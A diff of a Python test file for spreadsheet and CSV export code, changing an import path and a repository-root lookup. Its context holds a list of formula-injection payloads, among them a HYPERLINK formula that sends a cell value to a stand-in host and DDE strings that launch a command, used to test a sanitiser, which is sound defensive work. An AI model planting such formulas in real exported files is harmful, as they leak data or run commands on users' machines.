@@ -10,7 +10,7 @@ import pytest
 from analysis.outputs.xlsx import appendix_xlsx, summary_xlsx, units_table_csv, units_table_xlsx
 from analysis.figures import compute
 from analysis.outputs.safety import neutralize_formula, safe_filename
-from test_figures import frame_from
+from tests.support.frames import frame_from
 
 HOSTILE = ['=HYPERLINK("http://example.invalid/?x="&A1,"Bấm vào đây")', "+1+cmd|' /C calc'!A0",
            "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "=1+1"]
@@ -128,7 +128,7 @@ def test_no_page_writes_a_frame_with_pandas_default_writers():
     import re
     from pathlib import Path
 
-    root = Path(__file__).resolve().parent.parent
+    root = Path(__file__).resolve().parents[2]
     found = [str(p.relative_to(root)) for base in ("analysis", "ui", "pages")
              for p in (root / base).rglob("*.py")
              if re.search(r"\.to_(excel|csv)\(", p.read_text(encoding="utf-8"))]
